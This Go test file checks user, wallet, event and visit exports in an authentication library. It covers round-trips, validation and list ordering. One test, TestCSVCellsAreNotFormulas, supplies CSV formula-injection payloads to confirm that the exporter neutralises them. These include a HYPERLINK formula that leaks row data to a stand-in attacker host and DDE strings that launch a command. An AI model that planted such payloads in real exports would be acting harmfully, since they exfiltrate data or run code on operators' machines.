package exports_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/dynamicauth/dynamicauth"
	"github.com/dynamicauth/dynamicauth/dynamicauthtest"
	"github.com/dynamicauth/dynamicauth/errs"
	"github.com/dynamicauth/dynamicauth/exports"
	"github.com/dynamicauth/dynamicauth/store"
	"github.com/dynamicauth/dynamicauth/store/sqlite"
	"github.com/dynamicauth/dynamicauth/users"
	"github.com/ethereum/go-ethereum/crypto"
)

type fixture struct {
	app   *dynamicauthtest.App
	store store.Store
	env   string
}

func newFixture(t testing.TB) *fixture {
	t.Helper()
	st, err := sqlite.Open(context.Background(), ":memory:", sqlite.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	app := dynamicauthtest.New(t, func(c *dynamicauth.Config) { c.Store = st })
	return &fixture{app: app, store: st, env: app.IDs.EnvironmentID}
}

func str(s string) *string { return &s }

// seed creates n users through the admin bulk API: every third with a
// wallet, every other with a verified email, all with metadata.
func (f *fixture) seed(t *testing.T, n int) map[string]users.User { return f.seedT(t, n) }

func (f *fixture) seedT(t testing.TB, n int) map[string]users.User {
	t.Helper()
	out := map[string]users.User{}
	verified := time.Date(2026, 1, 2, 3, 4, 5, 6e6, time.UTC)
	for start := 0; start < n; start += 1000 {
		var rows []users.NewUser
		for i := start; i < min(n, start+1000); i++ {
			in := users.NewUser{Email: fmt.Sprintf("user%06d@example.com", i),
				Profile: users.ProfilePatch{FirstName: str(fmt.Sprintf("First, \"%d\"", i)), Alias: str("a\nlias"),
					Metadata: json.RawMessage(fmt.Sprintf(`{"n":%d,"tier":"gold"}`, i))}}
			if i%2 == 0 {
				in.EmailVerifiedAt = &verified
			}
			if i%3 == 0 {
				k, err := crypto.GenerateKey()
				if err != nil {
					t.Fatal(err)
				}
				in.Wallets = []users.NewWallet{{Chain: "EVM", Address: crypto.PubkeyToAddress(k.PublicKey).Hex(),
					WalletName: "metamask", WalletProvider: "browserExtension"}}
			}
			rows = append(rows, in)
		}
		res, err := f.app.Users().BulkCreate(context.Background(), f.app.System, f.env, rows, users.BulkOptions{})
		if err != nil || len(res.Failed) > 0 {
			t.Fatalf("seed: %v %+v", err, res)
		}
		for _, u := range res.Created {
			out[u.ID] = u
		}
	}
	return out
}

// run writes every pending export with a Runner of small chunks.
func (f *fixture) run(t *testing.T, chunk int) {
	t.Helper()
	r := exports.NewRunner(exports.RunnerDeps{Store: f.store, ChunkSize: chunk, PageSize: 97})
	for {
		ran, err := r.RunOnce(context.Background())
		if err != nil {
			t.Fatal(err)
		}
		if !ran {
			return
		}
	}
}

func (f *fixture) download(t *testing.T, id string) []byte {
	t.Helper()
	_, body, err := f.app.Exports().Open(context.Background(), f.app.System, f.env, id)
	if err != nil {
		t.Fatalf("Open %s: %v", id, err)
	}
	b, err := io.ReadAll(body)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestUsersExportRoundTrip: a users export in CSV and in JSON holds every
// user once, as stored (profile, metadata, wallets, verified email),
// across many chunks and pages.
func TestUsersExportRoundTrip(t *testing.T) {
	f := newFixture(t)
	want := f.seed(t, 1500)
	ctx := context.Background()
	csvExp, err := f.app.Exports().Create(ctx, f.app.System, f.env, exports.Input{Format: exports.FormatCSV, Model: exports.ModelUsers})
	if err != nil {
		t.Fatal(err)
	}
	jsonExp, err := f.app.Exports().Create(ctx, f.app.System, f.env, exports.Input{Format: exports.FormatJSON, Model: exports.ModelUsers})
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := f.app.Exports().Open(ctx, f.app.System, f.env, csvExp.ID); !errors.Is(err, exports.ErrNotReady) {
		t.Fatalf("download of a pending export: %v, want ErrNotReady", err)
	}
	f.run(t, 4096)

	for _, e := range []*exports.Export{csvExp, jsonExp} {
		got, err := f.app.Exports().Get(ctx, f.app.System, f.env, e.ID)
		if err != nil || got.Status != exports.StatusCompleted || got.Rows != int64(len(want)) || got.StartedAt == nil ||
			got.CompletedAt == nil || got.Bytes < 4096*10 {
			t.Fatalf("export %s: %+v, %v; want completed with %d rows over many chunks", e.Format, got, err, len(want))
		}
	}

	check := func(format string, recs []exports.UserRecord) {
		t.Helper()
		if len(recs) != len(want) {
			t.Fatalf("%s: %d records, want %d", format, len(recs), len(want))
		}
		seen := map[string]bool{}
		for _, r := range recs {
			u, ok := want[r.ID]
			if !ok || seen[r.ID] {
				t.Fatalf("%s: record %s unknown or repeated", format, r.ID)
			}
			seen[r.ID] = true
			wantRec := exports.NewUserRecord(&u)
			a, _ := json.Marshal(r)
			b, _ := json.Marshal(wantRec)
			if !bytes.Equal(a, b) {
				t.Fatalf("%s: record\n%s\nwant\n%s", format, a, b)
			}
			if (u.Email != "" && r.Email != u.Email) || len(r.Wallets) != countWallets(&u) {
				t.Fatalf("%s: record %+v does not carry user %+v", format, r, u)
			}
		}
	}

	// CSV: a header, then one row per user; JSON cells decode.
	rd := csv.NewReader(bytes.NewReader(f.download(t, csvExp.ID)))
	rows, err := rd.ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not parse: %v", err)
	}
	if fmt.Sprint(rows[0]) != fmt.Sprint(exports.UserColumns) {
		t.Fatalf("header %v", rows[0])
	}
	var recs []exports.UserRecord
	for _, row := range rows[1:] {
		r, err := exports.ParseUserRow(exports.UserColumns, row)
		if err != nil {
			t.Fatal(err)
		}
		recs = append(recs, r)
	}
	check("csv", recs)

	var jrecs []exports.UserRecord
	if err := json.Unmarshal(f.download(t, jsonExp.ID), &jrecs); err != nil {
		t.Fatalf("the JSON does not parse: %v", err)
	}
	check("json", jrecs)
}

func countWallets(u *users.User) int {
	n := 0
	for _, c := range u.Credentials {
		if c.Format == users.FormatBlockchain {
			n++
		}
	}
	return n
}

// TestExportValidation: bad input is a 400-kind error and queues nothing;
// an unknown or foreign export is not found.
func TestExportValidation(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	for _, in := range []exports.Input{
		{Format: "xml", Model: "users"},
		{Format: "csv", Model: "sessions"},
		{Format: "", Model: "users"},
		{Format: "csv", Model: "wallets", Filter: exports.Filter{Column: "email", Value: "x"}},
		{Format: "csv", Model: "users", Filter: exports.Filter{Column: "shoeSize", Value: "x"}},
	} {
		if _, err := f.app.Exports().Create(ctx, f.app.System, f.env, in); errs.KindOf(err) != errs.KindInvalid {
			t.Errorf("Create(%+v): %v, want invalid", in, err)
		}
	}
	list, err := f.app.Exports().List(ctx, f.app.System, f.env, "")
	if err != nil || len(list) != 0 {
		t.Fatalf("refused exports were queued: %+v %v", list, err)
	}
	if _, err := f.app.Exports().Get(ctx, f.app.System, f.env, "not-an-id"); errs.KindOf(err) != errs.KindNotFound {
		t.Fatalf("Get(not-an-id): %v", err)
	}
	// Bounded: MaxPending exports wait at most.
	for range exports.MaxPending {
		if _, err := f.app.Exports().Create(ctx, f.app.System, f.env, exports.Input{Format: "csv", Model: "visits"}); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := f.app.Exports().Create(ctx, f.app.System, f.env, exports.Input{Format: "csv", Model: "visits"}); !errors.Is(err, exports.ErrTooManyPending) {
		t.Fatalf("past MaxPending: %v", err)
	}
}

// TestExportModels: wallets, visits and events exports hold their rows.
func TestExportModels(t *testing.T) {
	f := newFixture(t)
	want := f.seed(t, 30)
	ctx := context.Background()
	ids := map[string]string{}
	for _, m := range []string{exports.ModelWallets, exports.ModelEvents, exports.ModelVisits} {
		e, err := f.app.Exports().Create(ctx, f.app.System, f.env, exports.Input{Format: exports.FormatCSV, Model: m})
		if err != nil {
			t.Fatal(err)
		}
		ids[m] = e.ID
	}
	dynamicauthtest.SignInWallet(t, f.app) // a visit? no: a sign-in; its wallet joins the export
	f.run(t, 1024)
	rows := func(m string) [][]string {
		rs, err := csv.NewReader(bytes.NewReader(f.download(t, ids[m]))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return rs
	}
	wallets := 0
	for _, u := range want {
		wallets += countWallets(&u)
	}
	if got := len(rows(exports.ModelWallets)) - 1; got != wallets+1 {
		t.Errorf("wallets export: %d rows, want %d", got, wallets+1)
	}
	// Events: every user.created, wallet.linked and export.created so far,
	// oldest first.
	ev := rows(exports.ModelEvents)
	counts := map[string]int{}
	for _, r := range ev[1:] {
		counts[r[1]]++
	}
	if counts["user.created"] != len(want)+1 || counts["export.created"] != 3 {
		t.Errorf("events export counts: %v", counts)
	}
	if got := len(rows(exports.ModelVisits)) - 1; got != 0 {
		t.Errorf("visits export: %d rows, want none", got)
	}
}

// TestExportsListInQueueOrder: exports queued within one millisecond (a
// frozen clock here; a busy server's burst in practice) list newest first
// all the same, as the admin API's list promises: their creation times tie
// and their ids decide.
func TestExportsListInQueueOrder(t *testing.T) {
	st, err := sqlite.Open(context.Background(), ":memory:", sqlite.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	frozen := time.Date(2026, 12, 6, 3, 0, 0, 0, time.UTC)
	app := dynamicauthtest.New(t, func(c *dynamicauth.Config) {
		c.Store = st
		c.Now = func() time.Time { return frozen }
	})
	ctx := context.Background()
	var queued []string
	for range exports.MaxPending {
		e, err := app.Exports().Create(ctx, app.System, app.IDs.EnvironmentID, exports.Input{Format: "csv", Model: "visits"})
		if err != nil {
			t.Fatal(err)
		}
		queued = append(queued, e.ID)
	}
	list, err := app.Exports().List(ctx, app.System, app.IDs.EnvironmentID, "")
	if err != nil || len(list) != len(queued) {
		t.Fatalf("List: %d exports, %v", len(list), err)
	}
	for i, e := range list {
		if want := queued[len(queued)-1-i]; e.ID != want {
			t.Fatalf("position %d: %s, want %s (queued %v)", i, e.ID, want, queued)
		}
	}
}

// TestCSVCellsAreNotFormulas: a CSV export is opened in spreadsheets, and
// a field an end user typed (an SDK profile update, a wallet name) that
// starts with =, +, - or @ would run there as a formula (=HYPERLINK to
// send the row away, DDE to run a command on the operator's machine).
// Such a cell is written behind a single quote, which spreadsheets read
// as "text", and import reads the value back unchanged.
func TestCSVCellsAreNotFormulas(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	values := []string{
		`=HYPERLINK("https://evil.example/?leak="&A2,"click")`,
		`+cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		`'=1+1`,
		`''@x`,
		`'plain quote`,
		`plain`,
		"+15551234567", // a number to a spreadsheet: kept as it is
		"'+15551234567",
	}
	var rows []users.NewUser
	for i, v := range values {
		rows = append(rows, users.NewUser{Email: fmt.Sprintf("formula%d@example.com", i),
			Profile: users.ProfilePatch{FirstName: str(v), LastName: str(v), Team: str(v)}})
	}
	res, err := f.app.Users().BulkCreate(ctx, f.app.System, f.env, rows, users.BulkOptions{})
	if err != nil || len(res.Failed) > 0 {
		t.Fatalf("seed: %v %+v", err, res)
	}
	e, err := f.app.Exports().Create(ctx, f.app.System, f.env, exports.Input{Format: exports.FormatCSV, Model: exports.ModelUsers})
	if err != nil {
		t.Fatal(err)
	}
	f.run(t, 1024)
	got, err := csv.NewReader(bytes.NewReader(f.download(t, e.ID))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(values)+1 {
		t.Fatalf("%d rows, want %d", len(got)-1, len(values))
	}
	byEmail := map[string]string{}
	for i, v := range values {
		byEmail[fmt.Sprintf("formula%d@example.com", i)] = v
	}
	for _, row := range got[1:] {
		for c, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && strings.Trim(cell[1:], "0123456789") != "" {
				t.Errorf("column %s holds %q: a spreadsheet runs it as a formula", exports.UserColumns[c], cell)
			}
		}
		rec, err := exports.ParseUserRow(exports.UserColumns, row)
		if err != nil {
			t.Fatal(err)
		}
		want := byEmail[rec.Email]
		if rec.FirstName != want || rec.LastName != want || rec.Team != want {
			t.Errorf("read back %q, %q, %q; want %q", rec.FirstName, rec.LastName, rec.Team, want)
		}
	}
}
